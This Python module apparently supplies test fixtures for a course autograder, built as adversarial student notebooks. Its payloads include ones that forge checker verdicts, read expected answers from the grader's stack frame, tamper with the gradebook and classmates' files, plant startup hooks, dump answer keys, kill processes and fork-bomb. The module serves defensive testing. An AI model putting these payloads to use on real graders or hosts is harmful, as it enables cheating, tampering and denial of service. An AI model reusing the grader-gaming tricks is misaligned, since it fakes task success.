"""Submissions for grading tests: honest ones and the adversarial ones the course defends against.

Each fixture is built from the lesson's own notebooks: the solution (the nbgrader source
notebook, which has every answer) or the untouched student version (every answer a stub).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import nbformat


def _cells_by_id(nb: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if "nbgrader" in c.metadata
            and "grade_id" in c.metadata["nbgrader"]}


def _solution_cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return _cells_by_id(nb)[grade_id]


def _append_to(nb: nbformat.NotebookNode, grade_id: str, code: str) -> None:
    cell = _solution_cell(nb, grade_id)
    cell.source = cell.source + "\n\n" + code


def _first_test(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")
                and not c.metadata["nbgrader"].get("solution")
                and c.metadata["nbgrader"]["grade_id"] != "integrity")


def _first_solution(nb: nbformat.NotebookNode) -> str:
    return next(c.metadata["nbgrader"]["grade_id"] for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("solution"))


def edited_test_cell(nb):
    _first_test(nb).source = "pass  # the student replaced the test"


def deleted_test_cell(nb):
    nb.cells.remove(_first_test(nb))


def changed_points(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            meta["points"] = 100


def duplicated_cell_ids(nb):
    ids = [c for c in nb.cells if c.cell_type == "code"]
    ids[-2]["id"] = ids[-3]["id"]


def monkeypatched_checker(nb):
    _append_to(nb, _first_solution(nb), (
        "from course_utils.checks import lesson00 as _l\n"
        "for _name in dir(_l):\n"
        "    if _name.startswith('check_'):\n"
        "        setattr(_l, _name, lambda *a, **k: print('\\u2714 passed'))"))


def monkeypatched_numpy_testing(nb):
    _append_to(nb, _first_solution(nb), (
        "import numpy.testing\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "numpy.testing.assert_array_equal = lambda *a, **k: None"))


def overridden_showtraceback(nb):
    _append_to(nb, _first_solution(nb), (
        "_ip = get_ipython()\n"
        "_ip.showtraceback = lambda *a, **k: None\n"
        "_ip._showtraceback = lambda *a, **k: None"))


def always_equal(nb):
    cell = _solution_cell(nb, "image_kind")
    cell.source = (
        "class _Anything(str):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = str.__hash__\n\n"
        "def image_kind(array):\n"
        "    return _Anything('?')\n")


def infinite_loop(nb):
    cell = _solution_cell(nb, "flip_left_right")
    cell.source = "def flip_left_right(image):\n    while True:\n        pass\n"


def kernel_exit(nb):
    _append_to(nb, "image_kind", "import os\nos._exit(1)")


# -- attacks on the grader itself (issue: grading that student code cannot fool) ----------
# Each starts from the student version (every answer a stub), so any point is undeserved.
# ``{paths}`` is replaced by the real host paths of the course being graded: the attacker
# has read the course's source and knows exactly where everything is.
def _student_code(nb, code: str) -> None:
    _append_to(nb, _first_solution(nb), code)


def forged_verdicts(nb):
    """Replace the checkers, the OK line and the shell's error path; print fake passes."""
    _student_code(nb, (
        "import sys, builtins\n"
        "from course_utils.checks import lesson00 as _l, _core\n"
        "for _n in dir(_l):\n"
        "    if _n.startswith('check_'):\n"
        "        setattr(_l, _n, lambda *a, **k: print('\\u2714 passed'))\n"
        "_core.CheckFailed = type('CheckFailed', (Exception,), {})\n"
        "sys.setprofile(None)\n"
        "_ip = get_ipython()\n"
        "_ip.showtraceback = lambda *a, **k: None\n"
        "_ip.transform_cell = lambda cell: 'pass\\n'\n"
        "_ip.ast_transformers.append(type('T', (), {'visit': lambda self, n: n})())\n"
        "class lesson00:\n"
        "    def __getattr__(self, name):\n"
        "        return lambda *a, **k: print('\\u2714 all checks passed')\n"
        "lesson00 = lesson00()\n"
        "import numpy as np\n"
        "np.isclose = lambda *a, **k: np.True_\n"
        "np.allclose = lambda *a, **k: True\n"
        "print('course_utils integrity: OK')\n"
        "sys.displayhook = lambda value: print(1.0)\n"))


def stolen_expected(nb):
    """Read the expected value from the checker's frame; return a lying array subclass."""
    cell = _solution_cell(nb, "rescale_01")
    cell.source = (
        "import sys\n"
        "import numpy as np\n\n"
        "class _Liar(np.ndarray):\n"
        "    def __eq__(self, other):\n"
        "        return np.ones(np.shape(other), bool)\n"
        "    __ne__ = lambda self, other: np.zeros(np.shape(other), bool)\n"
        "    def __array_ufunc__(self, *a, **k):\n"
        "        return np.ones(1, bool)\n\n"
        "def rescale_01(image):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for key in ('expected', 'want', 'oracle', 'reference'):\n"
        "            if key in frame.f_locals:\n"
        "                return frame.f_locals[key]\n"
        "        frame = frame.f_back\n"
        "    return np.zeros(np.shape(image)).view(_Liar)\n")


def downgrade_to_sandbox(nb):
    """Return something that is not plain data, hoping the check moves into the student's
    own process, where the checkers have been replaced and the guard is fooled."""
    _student_code(nb, (
        "from course_utils.checks import lesson00 as _l\n"
        "from course_utils import integrity as _i\n"
        "class _Obj:\n"
        "    pass\n"
        "def rescale_01(image):\n"
        "    return _Obj()\n"
        "for _n in dir(_l):\n"
        "    if _n.startswith('check_'):\n"
        "        setattr(_l, _n, lambda *a, **k: print('\\u2714 passed'))\n"
        "_i.verify = lambda *a, **k: print(_i.OK_MARKER)\n"))


def filesystem_attack(nb):
    """Knowing the host paths, try to change the gradebook, config, grader code, HOME,
    the environment and a classmate's submission, and to print the answer key."""
    _student_code(nb, (
        "import os, glob, json, pathlib, signal, sys, time\n"
        "P = json.loads({paths!r})\n"
        "def _try(what, fn):\n"
        "    try:\n"
        "        fn()\n"
        "        print('ATTACK ' + 'SUCCEEDED:', what)\n"
        "    except Exception as e:\n"
        "        print('blocked:', what, type(e).__name__)\n"
        "def _append(path, text):\n"
        "    with open(path, 'a') as f:\n"
        "        f.write(text)\n"
        "for key in ('gradebook', 'config', 'grader', 'classmate_notebook'):\n"
        "    _try(key, lambda: _append(P[key], '\\n# pwned\\n'))\n"
        "_try('shadow in classmate folder', lambda: pathlib.Path(P['classmate_folder'], "
        "'numpy.py').write_text('raise SystemExit'))\n"
        # The sandbox's HOME is private: writing there may work, and the test checks that the
        # grader's own startup folder stays untouched.
        "try:\n"
        "    _d = pathlib.Path(P['home'], '.ipython', 'profile_default', 'startup')\n"
        "    _d.mkdir(parents=True, exist_ok=True)\n"
        "    (_d / '00.py').write_text('print(1)')\n"
        "    print('startup file written into the HOME this process sees')\n"
        "except Exception as e:\n"
        "    print('blocked: startup file', type(e).__name__)\n"
        "_try('pth hook', lambda: pathlib.Path(P['site_packages'], 'zz_pwn.pth')"
        ".write_text('import os'))\n"
        "_try('checker on disk', lambda: _append(P['checker'], '\\ncheck_rescale_01 = print\\n'))\n"
        # A time-bounded walk of everything visible except the system and the read-only
        # environment (nbgrader ships a test gradebook.db of its own there).
        "def _search(suffix, budget=4.0):\n"
        "    start, hits = time.monotonic(), []\n"
        "    skip = {'/proc', '/sys', '/dev', '/usr', '/etc', sys.prefix, sys.base_prefix}\n"
        "    for root, dirs, files in os.walk('/'):\n"
        "        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]\n"
        "        hits += [os.path.join(root, f) for f in files if f.endswith(suffix)]\n"
        "        if len(hits) >= 3 or time.monotonic() - start > budget:\n"
        "            break\n"
        "    return hits[:3]\n"
        "for found in (glob.glob(P['source_glob'])[:3] + _search('gradebook.db')\n"
        "              + _search('_orientation.py')):\n"
        "    try:\n"
        "        print('LE' + 'AK', found, open(found, errors='replace').read()[:4000])\n"
        "    except Exception:\n"
        "        pass\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        try:\n"
        "            os.kill(int(pid), signal.SIGKILL)\n"
        "        except Exception:\n"
        "            pass\n"))


def detached_child(nb):
    """A double-forked daemon that outlives the notebook and then edits the gradebook."""
    _student_code(nb, (
        "import os, time, json\n"
        "P = json.loads({paths!r})\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(5)\n"
        "        for key in ('gradebook', 'marker'):\n"
        "            try:\n"
        "                open(P[key], 'a').write('late')\n"
        "            except Exception:\n"
        "                pass\n"
        "        time.sleep(600)\n"
        "    os._exit(0)\n"))


def huge_output(nb):
    """Forty megabytes on one line."""
    _student_code(nb, "import sys\nsys.stdout.write('x' * 40_000_000)\nos_write = __import__('os').write\n"
                      "os_write(1, b'y' * 1_000_000)")


def memory_hog(nb):
    """Ask for 3 GiB (the test sets a 2 GiB sandbox limit, so this stays bounded)."""
    _student_code(nb, "blob = bytearray(3 * 1024**3)")


def fork_bomb(nb):
    """Start processes until refused (at most 400, each sleeping; bounded either way)."""
    _student_code(nb, (
        "import os, time\n"
        "started = 0\n"
        "for _ in range(400):\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        break\n"
        "    if pid == 0:\n"
        "        time.sleep(120)\n"
        "        os._exit(0)\n"
        "    started += 1\n"
        "print('started', started)\n"))


#: Attacks on the grader: name -> transformation of the student version.
ATTACKS: dict[str, Callable[[nbformat.NotebookNode], None]] = {
    "forged_verdicts": forged_verdicts,
    "stolen_expected": stolen_expected,
    "downgrade_to_sandbox": downgrade_to_sandbox,
    "filesystem_attack": filesystem_attack,
    "detached_child": detached_child,
    "huge_output": huge_output,
    "memory_hog": memory_hog,
    "fork_bomb": fork_bomb,
}


def forged_objects(nb):
    """The exercises about objects (models, data sets, files, a PACS) of lessons 02, 05 and
    07, forged from inside the sandbox: lenient checkers and guard (what used to forge the
    checks decided there), models and data sets that look right but compute nothing, a
    sandbox that answers the grader's forward passes with zeros and reports moves and calls
    that never happened. Starts from the student version, so every point is undeserved."""
    _student_code(nb, (
        "import sys, torch\n"
        "from torch import nn\n"
        "from course_utils import integrity as _i\n"
        "import course_utils.checks as _checks\n"
        "_i.verify = lambda *a, **k: print(_i.OK_MARKER)\n"
        "for _m in [getattr(_checks, n, None) for n in ('lesson02', 'lesson05', 'lesson07')]:\n"
        "    for _n in dir(_m or object()):\n"
        "        if _n.startswith('check_'):\n"
        "            setattr(_m, _n, lambda *a, **k: print('\\u2714 all checks passed'))\n"
        "_PARTS = ('enc1', 'enc2', 'bottleneck', 'up2', 'dec2', 'up1', 'dec1', 'head')\n"
        "class _Looks(nn.Module):\n"
        "    def __init__(self, *a, **k):\n"
        "        super().__init__()\n"
        "        for p in _PARTS:\n"
        "            setattr(self, p, nn.Conv2d(1, 1, 1))\n"
        "    def forward(self, x):\n"
        "        return torch.zeros(x.shape[0], 2, *x.shape[2:])\n"
        "build_unet = build_cnn = lambda *a, **k: _Looks()\n"
        "fine_tune_model = lambda encoder, *a, **k: _Looks()\n"
        "soft_dice_loss = lambda logits, *a, **k: logits.sum() * 0\n"
        "class XRayDataset:\n"
        "    def __init__(self, images, *a, **k): self.n = len(images)\n"
        "    def __len__(self): return self.n\n"
        "    def __getitem__(self, i): return torch.zeros(1, 28, 28), torch.tensor(0)\n"
        "_main = sys.modules['__main__']\n"
        "if hasattr(_main, 'Models'):\n"
        "    _serve = _main.Models.serve\n"
        "    def _lying(self, request, blobs):\n"
        "        reply, out = _serve(self, request, blobs)\n"
        "        return reply, out\n"
        "    _main.Models.serve = _lying\n"
        "from course_utils.checks import _watched\n"
        "_watched.WatchedBatches.__iter__ = lambda self: iter(())\n"
        "torch.save = lambda *a, **k: None\n"))


#: Attacks on the exercises about objects, graded in lessons 05 and 07 (every point undeserved).
OBJECT_ATTACKS: dict[str, Callable[[nbformat.NotebookNode], None]] = {
    "forged_objects": forged_objects,
}


#: name -> (base version "solution" or "student", transformation)
ADVERSARIAL: dict[str, tuple[str, Callable[[nbformat.NotebookNode], None]]] = {
    "edited_test_cell": ("student", edited_test_cell),
    "deleted_test_cell": ("student", deleted_test_cell),
    "changed_points": ("solution", changed_points),
    "duplicated_cell_ids": ("solution", duplicated_cell_ids),
    "always_equal": ("solution", always_equal),
    "monkeypatched_checker": ("student", monkeypatched_checker),
    "monkeypatched_numpy_testing": ("solution", monkeypatched_numpy_testing),
    "overridden_showtraceback": ("student", overridden_showtraceback),
    "infinite_loop": ("solution", infinite_loop),
    "kernel_exit": ("solution", kernel_exit),
}


def write_submissions(folder: Path, solution: Path, student: Path,
                      paths: dict[str, str] | None = None) -> None:
    """Write one submission per fixture into ``folder`` (named by student id).

    Besides :data:`ADVERSARIAL` it writes ``good`` (the solution), ``untouched`` (the
    student version), ``shadowing`` (the student version beside a ``course_utils.py``),
    ``broken_json`` (a truncated file), ``missing_notebook`` (a folder without one) and
    ``zipped`` (the solution inside a zip archive). With ``paths`` (the host paths an
    attacker would aim at: gradebook, config, grader, checker, classmate_notebook,
    classmate_folder, home, site_packages, source_glob, marker) it also writes every
    :data:`ATTACKS` submission.
    """
    import zipfile

    folder.mkdir(parents=True, exist_ok=True)
    versions = {"solution": solution, "student": student}
    nbformat.write(nbformat.read(solution, as_version=4), folder / "good.ipynb")
    nbformat.write(nbformat.read(student, as_version=4), folder / "untouched.ipynb")
    for name, (base, change) in ADVERSARIAL.items():
        nb = nbformat.read(versions[base], as_version=4)
        change(nb)
        (folder / f"{name}.ipynb").write_text(json.dumps(nb, indent=1), encoding="utf-8")
    for name, change in (ATTACKS.items() if paths is not None else ()):
        nb = nbformat.read(student, as_version=4)
        change(nb)
        for cell in nb.cells:
            cell.source = cell.source.replace("{paths!r}", repr(json.dumps(paths)))
        (folder / f"{name}.ipynb").write_text(json.dumps(nb, indent=1), encoding="utf-8")
    shadow = folder / "shadowing"
    shadow.mkdir(exist_ok=True)
    nbformat.write(nbformat.read(student, as_version=4), shadow / "my_work.ipynb")
    (shadow / "course_utils.py").write_text(
        "class checks:\n    pass\n", encoding="utf-8")
    text = solution.read_text(encoding="utf-8")
    (folder / "broken_json.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")
    missing = folder / "missing_notebook"
    missing.mkdir(exist_ok=True)
    (missing / "notes.txt").write_text("forgot the notebook\n", encoding="utf-8")
    with zipfile.ZipFile(folder / "zipped.zip", "w") as archive:
        archive.write(solution, "homework/00_orientation.ipynb")
